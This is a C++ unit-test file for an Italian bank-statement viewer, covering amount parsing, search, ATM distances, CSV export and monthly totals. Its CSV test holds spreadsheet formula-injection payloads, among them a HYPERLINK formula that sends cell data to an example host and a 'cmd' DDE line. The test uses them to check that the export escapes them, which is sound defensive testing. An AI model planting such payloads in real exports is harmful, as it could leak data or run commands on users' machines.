#include "CsvReader.h"
#include "core/GeoDistance.h"
#include "core/SearchText.h"
#include "entities/Importo.h"
#include "entities/LumaspotVicino.h"
#include "entities/StatementCsv.h"
#include "entities/StatementModel.h"

#include <gtest/gtest.h>

using namespace vestrino;

namespace {

// A transaction as the statement's parser gives it.
MovimentoPtr transaction(const char* text, std::int32_t type, std::optional<Date> valuta,
                         std::optional<Date> contabile, const char* debit, const char* credit) {
    auto m = std::make_shared<Movimento>();
    m->setDescrizione(std::string(text));
    m->setTipoMovimento(type);
    m->setDataValuta(valuta);
    m->setDataContabile(contabile);
    m->setAddebiti(std::string(debit));
    m->setAccrediti(std::string(credit));
    return m;
}

} // namespace

TEST(Importo, ItalianAmountsAreReadIntoExactCents) {
    struct Case {
        const char* text;
        std::optional<std::int64_t> cents;
    };
    const Case cases[] = {
        {"38,56", 3856},
        {"1.234,56", 123456},
        {"1234,56", 123456},
        {"1.234.567,89", 123456789},
        {" 12,5 ", 1250},
        {"38", 3800},
        {"1.234", 123400},
        {"-91,70", -9170},
        {"+0,01", 1},
        {"0,10", 10},
        // 0.1 + 0.2 in cents: exact where binary floating point is not
        {"0,30", 30},
        {"999.999.999.999,99", 99999999999999},
        {"", std::nullopt},
        {",50", std::nullopt},
        {"12,", std::nullopt},
        {"12,345", std::nullopt},
        {"12.50", std::nullopt}, // a decimal point is no Italian amount
        {"1.23,00", std::nullopt},
        {"1234.567,00", std::nullopt},
        {".123,00", std::nullopt},
        {"12,5O", std::nullopt},
        {"1 234,56", std::nullopt}, // spaces inside: the application removes no-break ones first
        {"--1", std::nullopt},
        {"1e3", std::nullopt},
        {"9999999999999999", std::nullopt}, // more digits than any statement has
    };
    for (const auto& c : cases) {
        EXPECT_EQ(Importo::centsFromItalian(c.text), c.cents) << "\"" << c.text << "\"";
    }
    struct Out {
        std::int64_t cents;
        const char* italian;
        const char* point;
        const char* shown; // as the statement's rows write theirs
    };
    const Out outs[] = {{0, "0,00", "0.00", "0,00"},
                        {5, "0,05", "0.05", "+ 0,05"},
                        {-24560, "-245,60", "-245.60", "- 245,60"},
                        {123456789, "1.234.567,89", "1234567.89", "+ 1234567,89"},
                        {-100000, "-1.000,00", "-1000.00", "- 1000,00"},
                        {INT64_MIN, "-92.233.720.368.547.758,08", "-92233720368547758.08",
                         "- 92233720368547758,08"}};
    for (const auto& o : outs) {
        EXPECT_EQ(Importo::italian(o.cents), o.italian);
        EXPECT_EQ(Importo::decimalPoint(o.cents), o.point);
        EXPECT_EQ(Importo::shown(o.cents), o.shown);
    }
    Movimento credit, emptyCredit, unreadable;
    credit.setAccrediti("425,81");
    credit.setAddebiti("1,00");
    emptyCredit.setAccrediti("");
    emptyCredit.setAddebiti("91,70");
    unreadable.setAddebiti("n/d");
    EXPECT_EQ(Importo::signedCents(credit), 42581);
    EXPECT_EQ(Importo::signedCents(emptyCredit), -9170);
    EXPECT_EQ(Importo::signedCents(unreadable), std::nullopt);
}

TEST(SearchText, CaseAndAccentsAreIgnored) {
    struct Case {
        const char* text;
        const char* query;
        bool found;
    };
    const Case cases[] = {
        {"PAGAMENTO POS BAR CENTRALE CAFFÈ", "caffe", true},
        {"PAGAMENTO POS BAR CENTRALE CAFFÈ", "Caffè", true},
        {"pagamento pos bar centrale caffe", "CAFFÈ", true},
        {"Città di Castello", "citta", true},
        {"Straße", "STRASSE", true},
        {"ÉLITE", "elite", true},
        {"PAGAMENTO POS BAR CENTRALE CAFFÈ", "caffé latte", false},
        {"RICARICA CARTA", "", true},
        {"RICARICA CARTA", "prelievo", false},
    };
    for (const auto& c : cases) {
        EXPECT_EQ(containsFolded(foldedForSearch(c.text), foldedForSearch(c.query)), c.found)
            << c.text << " / " << c.query;
    }
}

// Where a folded match lies in the text as written, and what a row too narrow for it shows.
TEST(SearchText, TheMatchAsWrittenAndTheExcerptAroundIt) {
    struct Case {
        const char* text;
        const char* query;
        const char* found; // "from-to" in code points, "" for no match
        const char* excerpt;
    };
    const Case cases[] = {
        {"RICARICA DA SPORTELLO UFFICIO POSTALE", "pos", "30-33", "…POSTALE"},
        {"RICARICA DA SPORTELLO UFFICIO POSTALE", "ufficio post", "22-34", "…UFFICIO POSTALE"},
        {"PAGAMENTO POS CAFFÈ DELLA STAZIONE", "caffe", "14-19", "…CAFFÈ DELLA STAZIONE"},
        {"Straße", "strasse", "0-6", "Straße"},  // one ß folds to two letters
        {"PRELIEVO", "prel", "0-4", "PRELIEVO"}, // at the start: whole
        {"RICARICAPOSTEPAYUFFICIOCENTRALE", "centrale", "23-31", "…CENTRALE"}, // a long word
        {"PAGAMENTO", "bar", "", ""},
        {"PAGAMENTO", "", "", ""},
    };
    for (const auto& c : cases) {
        const auto match = findFolded(c.text, foldedForSearch(c.query));
        EXPECT_EQ(match ? std::to_string(match->from) + "-" + std::to_string(match->to) : "",
                  c.found)
            << c.text << " / " << c.query;
        EXPECT_EQ(match ? excerptAround(c.text, *match) : "", c.excerpt) << c.text;
    }
}

TEST(GeoDistance, GreatCircleKilometresAndTheirText) {
    // Rome to Milan (GeoNames centres): 478.6 km on the sphere (477.2 on the ellipsoid); a
    // point to itself 0; antipodes half the Earth's circumference.
    EXPECT_NEAR(GeoDistance::kilometres(41.89193, 12.51133, 45.46427, 9.18951), 478.6, 0.05);
    EXPECT_NEAR(GeoDistance::kilometres(45.46427, 9.18951, 41.89193, 12.51133), 478.6, 0.05);
    EXPECT_EQ(GeoDistance::kilometres(45.5, 9.25, 45.5, 9.25), 0.0);
    EXPECT_NEAR(GeoDistance::kilometres(0, 0, 0, 180), 20015.1, 0.1);
    EXPECT_NEAR(GeoDistance::kilometres(90, 0, -90, 0), 20015.1, 0.1);
    EXPECT_EQ(GeoDistance::italianText(1.23), "1,2 km");
    EXPECT_EQ(GeoDistance::italianText(0.04), "0,0 km");
    EXPECT_EQ(GeoDistance::italianText(12.96), "13,0 km");
    EXPECT_EQ(GeoDistance::italianText(477.04), "477,0 km");

    auto atm = [](const char* name, std::optional<std::string> lat,
                  std::optional<std::string> lng) {
        auto a = std::make_shared<ATMLumaspot>();
        a->setUfficio(std::string(name));
        a->setLatitudine(std::move(lat));
        a->setLongitudine(std::move(lng));
        return a;
    };
    const ListaLumaspot found = {
        atm("EUR", "41.833240", "12.470120"),     atm("senza posizione", std::nullopt, "12.5"),
        atm("MARSALA", "41.902782", "12.501990"), atm("SILVESTRO", "41.902330", "12.481610"),
        atm("non numerica", "41,90", "12.48"),    atm("fuori dal mondo", "95.0", "12.0"),
    };
    const auto nearest = LumaspotVicino::nearestFirst(found, 41.9, 12.49);
    std::vector<std::string> order;
    for (const auto& v : nearest) {
        order.push_back(*v.atm->ufficio());
    }
    EXPECT_EQ(order, (std::vector<std::string>{"SILVESTRO", "MARSALA", "EUR", "senza posizione",
                                               "non numerica", "fuori dal mondo"}));
    EXPECT_NEAR(*nearest[0].km, 0.741, 0.001);
    EXPECT_FALSE(nearest[3].km);
    // Within 2 km: SILVESTRO (0.74) and MARSALA (1.04); EUR (7.5 km) goes after those without a
    // position, and is the one counted apart.
    auto within = nearest;
    EXPECT_EQ(LumaspotVicino::fartherLast(within, 2), 1u);
    order.clear();
    for (const auto& v : within) {
        order.push_back(*v.atm->ufficio());
    }
    EXPECT_EQ(order, (std::vector<std::string>{"SILVESTRO", "MARSALA", "senza posizione",
                                               "non numerica", "fuori dal mondo", "EUR"}));
    auto all = nearest;
    EXPECT_EQ(LumaspotVicino::fartherLast(all, 20), 0u);
}

TEST(StatementCsv, RowsReadBackByAnRfc4180Reader) {
    auto row = [](const char* desc, std::optional<std::string> debit,
                  std::optional<std::string> credit, int type) {
        auto m = std::make_shared<Movimento>();
        m->setDescrizione(std::string(desc));
        m->setAddebiti(std::move(debit));
        m->setAccrediti(std::move(credit));
        m->setTipoMovimento(type);
        // 13/11/2026 and 12/11/2026 at local midnight (Europe/Rome, as the reader makes them).
        m->setDataContabile(Date(std::chrono::milliseconds(1794524400000)));
        m->setDataValuta(Date(std::chrono::milliseconds(1794438000000)));
        return m;
    };
    const ListaMovimenti rows = {
        row("PAGAMENTO POS BAR \"DA MARIO\", ROMA", "1.091,70", "", 4),
        row("RICARICA CARTA\nDA SPORTELLO", std::nullopt, "425,81", 1),
        row("CAFFÈ", "n/d", std::nullopt, 4),
        // Texts a spreadsheet would run: an apostrophe first; the amounts stay numbers.
        row("=HYPERLINK(\"http://x.example/?\"&A1,\"Clic\")", "91,70", "", 4),
        row("+cmd|' /C calc'!A0", "1,00", "", 4),
        row("-2+3", "1,00", "", 4),
        row("@SUM(A1:A9)", "1,00", "", 4),
        row("\tTAB", "1,00", "", 4),
        row("\rA CAPO", "1,00", "", 4),
        row("PAGAMENTO = 2 RATE", "=1+1", "", 4),
        // Every type's name beside its code.
        row("PRELIEVO ATM", "50,00", "", 0),
        row("RICARICA CARTA LUMACARD", "", "10,00", 2),
        row("RICARICA TELEFONICA", "5,00", "", 3),
        row("COMMISSIONE", "1,00", "", -1),
    };
    std::vector<std::vector<std::string>> read;
    ASSERT_TRUE(test::readCsv(StatementCsv::write(rows), read));
    const std::vector<std::vector<std::string>> expected = {
        {"data_contabile", "data_valuta", "descrizione", "importo", "tipo", "tipo_descrizione",
         "importo_originale"},
        {"2026-11-13", "2026-11-12", "PAGAMENTO POS BAR \"DA MARIO\", ROMA", "-1091.70", "4",
         "pagamento", "-1.091,70"},
        {"2026-11-13", "2026-11-12", "RICARICA CARTA\nDA SPORTELLO", "425.81", "1",
         "ricarica carta", "+425,81"},
        {"2026-11-13", "2026-11-12", "CAFFÈ", "", "4", "pagamento", "'-n/d"},
        {"2026-11-13", "2026-11-12", "'=HYPERLINK(\"http://x.example/?\"&A1,\"Clic\")", "-91.70",
         "4", "pagamento", "-91,70"},
        {"2026-11-13", "2026-11-12", "'+cmd|' /C calc'!A0", "-1.00", "4", "pagamento", "-1,00"},
        {"2026-11-13", "2026-11-12", "'-2+3", "-1.00", "4", "pagamento", "-1,00"},
        {"2026-11-13", "2026-11-12", "'@SUM(A1:A9)", "-1.00", "4", "pagamento", "-1,00"},
        {"2026-11-13", "2026-11-12", "'\tTAB", "-1.00", "4", "pagamento", "-1,00"},
        {"2026-11-13", "2026-11-12", "'\rA CAPO", "-1.00", "4", "pagamento", "-1,00"},
        {"2026-11-13", "2026-11-12", "PAGAMENTO = 2 RATE", "", "4", "pagamento", "'-=1+1"},
        {"2026-11-13", "2026-11-12", "PRELIEVO ATM", "-50.00", "0", "prelievo", "-50,00"},
        {"2026-11-13", "2026-11-12", "RICARICA CARTA LUMACARD", "10.00", "2",
         "ricarica carta Lumacard", "+10,00"},
        {"2026-11-13", "2026-11-12", "RICARICA TELEFONICA", "-5.00", "3", "ricarica telefonica",
         "-5,00"},
        {"2026-11-13", "2026-11-12", "COMMISSIONE", "-1.00", "-1", "altro", "-1,00"},
    };
    EXPECT_EQ(read, expected);
    EXPECT_EQ(StatementCsv::write({}), std::string(StatementCsv::kHeader) + "\r\n");
}

// A place's coordinates are read only within the world: latitudes to ±90, longitudes to ±180
// (both ends included), in the C form, whole.
TEST(LumaspotVicino, PositionsWithinTheWorld) {
    struct Case {
        const char* lat;
        const char* lng;
        bool read;
    };
    const Case cases[] = {
        {"41.9", "120", true},        {"41.9", "180", true},
        {"41.9", "-180", true},       {"90", "0", true},
        {"-90", "0", true},           {"41.9", "180.0001", false},
        {"41.9", "-180.0001", false}, {"90.0001", "0", false},
        {"41,9", "12.5", false},      {"41.9x", "12.5", false},
        {"", "12.5", false},          {"nan", "12.5", false},
        {"41.9", "inf", false},
    };
    for (const auto& c : cases) {
        ATMLumaspot atm;
        atm.setLatitudine(std::string(c.lat));
        atm.setLongitudine(std::string(c.lng));
        const auto p = LumaspotVicino::position(atm);
        EXPECT_EQ(p.has_value(), c.read) << c.lat << " " << c.lng;
    }
}

// One field of a CSV line: quoted whenever it holds a comma, a quote or a line break, even
// when that is all it holds.
TEST(StatementCsv, FieldsThatNeedQuotes) {
    const std::pair<std::string, std::string> cases[] = {
        {"", ""},
        {"PAGAMENTO", "PAGAMENTO"},
        {"\"", "\"\"\"\""},
        {"\r", "\"\r\""},
        {"\n", "\"\n\""},
        {",", "\",\""},
        {"a\"b", "\"a\"\"b\""},
        {"riga\r\nnuova", "\"riga\r\nnuova\""},
    };
    for (const auto& [text, field] : cases) {
        EXPECT_EQ(StatementCsv::field(text), field) << text;
    }
}

// A statement looked through: sorted once (newest value date first, no date last, one date's
// rows in the service's order), narrowed by types and a search (accents and case ignored), the
// count and the total of what is shown, an unreadable amount left out and counted.
TEST(StatementModel, TypesSearchOrderAndTotal) {
    using namespace std::chrono;
    const auto day = [](int d) { return Date(sys_days(year(2026) / November / d)); };
    struct Row {
        const char* text;
        std::int32_t type;
        std::optional<Date> valuta;
        const char* debit; // nullptr: a credit of 10,00
    };
    const Row rows[] = {
        {"PAGAMENTO POS CAFFÈ", 4, day(10), "1,50"},
        {"PRELIEVO ATM", 0, std::nullopt, "50,00"},
        {"RICARICA CARTA", 1, day(12), nullptr},
        {"PAGAMENTO POS LIBRERIA", 4, day(12), "20,00"},
        {"PAGAMENTO CAFFE BAR", 4, day(11), "n/d"},
    };
    ListaMovimenti list;
    for (const auto& r : rows) {
        list.push_back(transaction(r.text, r.type, r.valuta, std::nullopt, r.debit ? r.debit : "",
                                   r.debit ? "" : "10,00"));
    }
    list.push_back(nullptr); // a hole in what the parser gave: left out
    StatementModel model(list);
    // The toggles on, the query, then the rows shown, "= total" and "? unreadable".
    struct Step {
        std::vector<std::int32_t> types;
        const char* query;
        const char* shown;
    };
    const Step steps[] = {
        {{},
         "",
         "RICARICA CARTA, PAGAMENTO POS LIBRERIA, PAGAMENTO CAFFE BAR, PAGAMENTO POS "
         "CAFFÈ, PRELIEVO ATM, = -6150 ? 1"},
        {{4}, "", "PAGAMENTO POS LIBRERIA, PAGAMENTO CAFFE BAR, PAGAMENTO POS CAFFÈ, = -2150 ? 1"},
        {{4}, "caffe", "PAGAMENTO CAFFE BAR, PAGAMENTO POS CAFFÈ, = -150 ? 1"},
        {{}, "Caffè", "PAGAMENTO CAFFE BAR, PAGAMENTO POS CAFFÈ, = -150 ? 1"},
        {{0, 1}, "", "RICARICA CARTA, PRELIEVO ATM, = -4000 ? 0"},
        {{1, 0}, "", "RICARICA CARTA, PRELIEVO ATM, = -4000 ? 0"}, // order of the toggles
        {{3}, "", "= 0 ? 0"},
        {{}, "nessuna", "= 0 ? 0"},
    };
    for (const auto& step : steps) {
        model.setTypes(step.types);
        model.setQuery(step.query);
        std::string shown;
        for (const auto& m : model.rowsShown()) {
            shown += *m->descrizione() + ", ";
        }
        const auto summary = model.summary();
        EXPECT_EQ(shown + "= " + std::to_string(summary.totalCents) + " ? " +
                      std::to_string(summary.unreadable),
                  step.shown)
            << step.query;
        EXPECT_EQ(summary.count, model.rowsShown().size()) << step.query;
        EXPECT_EQ(model.narrowedByTypes(), !step.types.empty());
        EXPECT_EQ(model.narrowedBySearch(), std::string(step.query) != "");
    }
    EXPECT_EQ(model.movimenti().size(), 5u);
}

TEST(StatementModel, MonthsAddUpTheRowsAndOneMonthNarrowsThem) {
    using namespace std::chrono;
    const auto day = [](int m, int d) {
        return Date(sys_days(year(2026) / month(static_cast<unsigned>(m)) / d) + hours(12));
    };
    struct Row {
        const char* text;
        std::int32_t type;
        std::optional<Date> valuta, contabile;
        const char* debit;  // or
        const char* credit; // the other is empty
    };
    const Row rows[] = {
        {"PRELIEVO ATM", 0, day(10, 3), day(10, 2), "50,00", ""},
        {"PAGAMENTO POS", 4, day(10, 20), day(10, 20), "12,35", ""},
        {"RICARICA TELEFONICA", 3, day(11, 2), day(11, 2), "10,00", ""},
        {"RICARICA CARTA", 1, day(11, 5), day(11, 5), "", "200,00"},
        // No value date: the booking date's month.
        {"PAGAMENTO ONLINE", 4, std::nullopt, day(9, 30), "1.000,01", ""},
        // Neither date: in no month, still in the list without a month.
        {"COMMISSIONE", 7, std::nullopt, std::nullopt, "1,00", ""},
        // An amount that cannot be read: counted in its month, not added.
        {"PAGAMENTO POS BAR", 4, day(11, 9), day(11, 9), "n/d", ""},
        {"STORNO", 9, day(11, 9), day(11, 9), "0,99", ""},
    };
    ListaMovimenti list;
    for (const auto& r : rows) {
        list.push_back(transaction(r.text, r.type, r.valuta, r.contabile, r.debit, r.credit));
    }
    StatementModel model(list);
    // A month's figures: "month out in (out by kind) count unreadable".
    const auto figures = [](const MonthTotals& m) {
        std::string kinds;
        for (const auto k : m.outByKind) {
            kinds += (kinds.empty() ? "" : ",") + std::to_string(k);
        }
        return m.month.iso() + " " + std::to_string(m.outCents) + " " + std::to_string(m.inCents) +
               " (" + kinds + ") " + std::to_string(m.count) + " " + std::to_string(m.unreadable);
    };
    struct Step {
        std::vector<std::int32_t> types;
        const char* query;
        std::vector<std::string> months;
    };
    const Step steps[] = {
        {{},
         "",
         {"2026-09 100001 0 (0,0,0,0,100001,0) 1 0", "2026-10 6235 0 (5000,0,0,0,1235,0) 2 0",
          "2026-11 1099 20000 (0,0,0,1000,0,99) 4 1"}},
        {{4},
         "",
         {"2026-09 100001 0 (0,0,0,0,100001,0) 1 0", "2026-10 1235 0 (0,0,0,0,1235,0) 1 0",
          "2026-11 0 0 (0,0,0,0,0,0) 1 1"}},
        {{}, "ricarica", {"2026-11 1000 20000 (0,0,0,1000,0,0) 2 0"}},
        {{}, "nessuna", {}},
    };
    for (const auto& step : steps) {
        SCOPED_TRACE(std::string(step.query) + " " + std::to_string(step.types.size()));
        model.setMonth(std::nullopt);
        model.setTypes(step.types);
        model.setQuery(step.query);
        const auto before = model.summary().count;
        std::vector<std::string> months;
        for (const auto& got : model.months()) {
            months.push_back(figures(got));
            // One month chosen: the rows shown are that month's, the bars stay as they were.
            model.setMonth(got.month);
            EXPECT_EQ(std::tuple(model.summary().count, model.summary().totalCents,
                                 model.summary().unreadable, model.months().size()),
                      std::tuple(got.count, got.inCents - got.outCents, got.unreadable,
                                 step.months.size()))
                << got.month.iso();
            model.setMonth(std::nullopt);
        }
        EXPECT_EQ(months, step.months);
        EXPECT_EQ(model.summary().count, before);
    }
    // A month with no rows shows none; the row without dates shows only with no month set.
    model.setTypes({});
    model.setQuery("");
    model.setMonth(MonthKey{2025, 1});
    EXPECT_TRUE(model.shown().empty());
    model.setMonth(std::nullopt);
    EXPECT_EQ(model.shown().size(), 8u);
}

// The terminal's form of a month read back: "year month label", or nothing.
TEST(MonthKey, LabelsAndTheTerminalsForm) {
    const std::pair<const char*, const char*> cases[] = {
        {"2026-11", "2026 11 nov 2026"},
        {"2025-01", "2025 1 gen 2025"},
        {"2026-12", "2026 12 dic 2026"},
        {"2026-13", ""},
        {"2026-00", ""},
        {"2026-1", ""},
        {"+026-11", ""},
        {"2026/11", ""},
        {"2026-11x", ""},
        {"", ""},
    };
    for (const auto& [text, read] : cases) {
        const auto key = MonthKey::fromIso(text);
        EXPECT_EQ(key ? std::to_string(key->year) + " " + std::to_string(key->month) + " " +
                            key->label()
                      : "",
                  read)
            << text;
        EXPECT_EQ(key ? key->iso() : "", *read ? text : "") << text;
    }
}

TEST(MonthTotals, FiguresSignedOnlyWhereThereIsAnAmount) {
    struct Case {
        std::int64_t out, in;
        const char *outText, *inText;
    };
    const Case cases[] = {
        {0, 0, "0,00", "0,00"},
        {43084, 69377, "-430,84", "+693,77"},
        {123456789, 100, "-1.234.567,89", "+1,00"},
        {-500, -99, "+5,00", "-0,99"}, // a month whose refunds outweigh its debits
    };
    for (const auto& c : cases) {
        MonthTotals m;
        m.outCents = c.out;
        m.inCents = c.in;
        EXPECT_EQ(m.outText(), c.outText);
        EXPECT_EQ(m.inText(), c.inText);
    }
}
